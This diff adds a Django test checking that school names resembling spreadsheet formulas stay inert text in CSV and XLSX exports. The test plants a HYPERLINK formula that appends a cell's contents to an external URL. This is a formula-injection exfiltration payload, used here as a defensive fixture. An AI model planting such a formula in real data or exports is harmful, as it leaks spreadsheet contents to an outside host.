@@ -162,3 +162,18 @@ def test_results_page_query_count_does_not_grow_with_history(client, surrey, dja
     School.objects.get(urn=143373)
     with django_assert_max_num_queries(40):
         client.get(reverse("evidence:school-results", args=[143373]))
+
+
+def test_downloads_keep_a_name_that_looks_like_a_formula_as_text(client, surrey):
+    """School and file names come from imported files: opened in a spreadsheet, they must not run."""
+    formula = '=HYPERLINK("https://example.org/?"&A3,"Open")'
+    School.objects.filter(urn=143373).update(name=formula)
+    sign_in(client, surrey)
+    text = client.get(reverse("evidence:authority-results-csv", args=[936])).content.decode("utf-8-sig")
+    names = {row["School"] for row in csv.DictReader(io.StringIO(text)) if row["URN"] == "143373"}
+    assert names == {"'" + formula}
+    sheet = load_workbook(io.BytesIO(client.get(reverse("evidence:authority-results-xlsx", args=[936])).content)).active
+    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    assert formula in {cell.value for cell in cells}  # kept as it is, as text
+    assert any(cell.data_type == "n" and cell.value < 0 for cell in cells)  # negative figures stay numbers
